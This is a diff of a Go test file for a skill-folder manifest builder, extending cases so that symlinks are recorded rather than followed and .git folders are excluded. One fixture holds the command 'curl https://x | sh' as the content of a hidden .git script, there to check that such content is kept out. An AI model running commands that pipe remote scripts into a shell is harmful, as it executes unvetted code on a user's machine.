@@ -26,10 +26,15 @@ func sum(content string) string {
 }
 
 // want is the manifest of files: path → content, each listed with its
-// size and digest, in byte order.
+// size and digest, in byte order; a content "-> target" is a recorded
+// link that holds target.
 func want(files map[string]string) *Manifest {
 	m := &Manifest{Files: []File{}}
 	for p, c := range files {
+		if target, ok := strings.CutPrefix(c, "-> "); ok {
+			m.Files = append(m.Files, File{Path: p, Link: target})
+			continue
+		}
 		m.Files = append(m.Files, File{Path: p, Size: int64(len(c)), Digest: sum(c)})
 		m.Bytes += int64(len(c))
 	}
@@ -41,7 +46,7 @@ func want(files map[string]string) *Manifest {
 // written are old enough to cache (see racyWindow).
 func trusting() *Cache {
 	c := NewCache()
-	c.now = func() time.Time { return time.Now().Add(24 * time.Hour) }
+	c.listings.now = func() time.Time { return time.Now().Add(24 * time.Hour) }
 	return c
 }
 
@@ -80,19 +85,27 @@ func TestBuild(t *testing.T) {
 			files: map[string]string{
 				"SKILL.md": "s", "references/guide.md": "guide", "link.md": "guide", "references/up.md": "s", "chain.md": "guide",
 			}},
-		{name: "symlinks leading outside, broken or looping are skipped",
+		{name: "symlinks leading outside, broken or looping are recorded, not followed",
 			tree: map[string]string{
 				"skill/SKILL.md": "s", "outside.txt": "secret", "skill/out.md": "-> ../outside.txt",
 				"skill/broken.md": "-> nothing.md", "skill/loop1": "-> loop2", "skill/loop2": "-> loop1",
 				"skill/sneaky.md": "-> ../skill2/SKILL.md", "skill2/SKILL.md": "other",
 			},
-			files: map[string]string{"SKILL.md": "s"}},
-		{name: "symlinked folders are not followed, inside or out",
+			files: map[string]string{"SKILL.md": "s", "out.md": "-> ../outside.txt", "broken.md": "-> nothing.md",
+				"loop1": "-> loop2", "loop2": "-> loop1", "sneaky.md": "-> ../skill2/SKILL.md"}},
+		{name: "symlinked folders are recorded, not followed, inside or out",
 			tree: map[string]string{
 				"skill/SKILL.md": "s", "skill/references/a.md": "a", "skill/refs": "-> references",
 				"skill/self": "-> .", "skill/parent": "-> ..", "outdir/b.md": "b", "skill/outdir": "-> ../outdir",
 			},
-			files: map[string]string{"SKILL.md": "s", "references/a.md": "a"}},
+			files: map[string]string{"SKILL.md": "s", "references/a.md": "a", "refs": "-> references", "self": "-> .",
+				"parent": "-> ..", "outdir": "-> ../outdir"}},
+		{name: ".git is never part of a skill, whatever it holds, in any case",
+			tree: map[string]string{
+				"skill/SKILL.md": "s", "skill/.git/run.sh": "curl https://x | sh", "skill/.GIT/HEAD": "ref",
+				"skill/sub/.Git": "gitdir: ../elsewhere", "skill/into-git.sh": "-> .git/run.sh",
+			},
+			files: map[string]string{"SKILL.md": "s", "into-git.sh": "-> .git/run.sh"}},
 		{name: "the skill folder given through a symlink",
 			tree: map[string]string{
 				"real/skill/SKILL.md": "s", "skill": "-> real/skill",
@@ -176,7 +189,11 @@ func TestBuildErrors(t *testing.T) {
 		}
 		// Root reads a chmod 000 file: have the file the walk saw become
 		// a folder before it is hashed.
-		_, _, err := NewCache().digest(found{rel: "references/x.md", real: filepath.Join(base, "skill")})
+		st, err := os.Lstat(filepath.Join(base, "skill"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, _, err = NewCache().digest(Entry{Path: "references/x.md", Kind: KindFile, Real: filepath.Join(base, "skill"), Info: st})
 		if err == nil || !strings.HasPrefix(err.Error(), "references/x.md: ") || !strings.Contains(err.Error(), "it is a folder, not a regular file") {
 			t.Fatalf("digest: %v; want an error naming references/x.md", err)
 		}
@@ -370,7 +387,7 @@ func TestRacy(t *testing.T) {
 				t.Fatal(err)
 			}
 			c := NewCache()
-			c.now = func() time.Time { return idOf(st).Latest().Add(tt.age) }
+			c.listings.now = func() time.Time { return idOf(st).Latest().Add(tt.age) }
 			for range 2 {
 				if _, err := c.Build(dir); err != nil {
 					t.Fatal(err)
